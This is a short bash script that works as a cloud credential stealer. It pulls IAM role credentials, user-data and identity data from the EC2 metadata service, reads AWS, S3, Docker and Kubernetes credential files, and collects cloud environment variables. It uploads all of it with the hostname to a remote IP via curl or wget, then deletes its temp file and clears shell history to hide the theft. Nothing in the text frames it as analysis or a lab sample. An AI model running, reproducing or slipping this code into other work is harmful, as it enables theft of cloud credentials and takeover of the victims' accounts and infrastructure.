#!/bin/bash
export LC_ALL=C
F=/tmp/.aws.$$
MD=169.254.169.254
function AWS_GET() {
  TK=$(curl -s -m 3 -X PUT "http://$MD/latest/api/token" -H "X-aws-ec2-metadata-token-ttl-seconds: 600" 2>/dev/null)
  H=""; [ -n "$TK" ] && H="X-aws-ec2-metadata-token: $TK"
  ROLE=$(curl -s -m 3 -H "$H" "http://$MD/latest/meta-data/iam/security-credentials/" 2>/dev/null | head -1)
  if [ -n "$ROLE" ]; then
    echo "### IAM $ROLE" >> $F
    curl -s -m 3 -H "$H" "http://$MD/latest/meta-data/iam/security-credentials/$ROLE" >> $F 2>/dev/null
    curl -s -m 3 -H "$H" "http://$MD/latest/user-data" >> $F 2>/dev/null
    curl -s -m 3 -H "$H" "http://$MD/latest/dynamic/instance-identity/document" >> $F 2>/dev/null
  fi
}
AWS_GET
for P in ~/.aws/credentials ~/.aws/config /root/.aws/credentials ~/.s3cfg ~/.passwd-s3fs ~/.docker/config.json ~/.kube/config; do
  [ -r "$P" ] && { echo "### $P" >> $F; cat "$P" >> $F; }
done
env | grep -E 'AWS_|AZURE_|GOOGLE_|GCP_|CDK_' >> $F
if [ -s $F ]; then
  curl -s -m 10 -F "f=@$F" -F "h=$(hostname)" http://198.51.100.188/in/upload.php >/dev/null 2>&1 || \
  wget -q -O- --post-file=$F http://198.51.100.188/in/upload.php >/dev/null 2>&1
fi
rm -f $F
history -c 2>/dev/null
exit 0
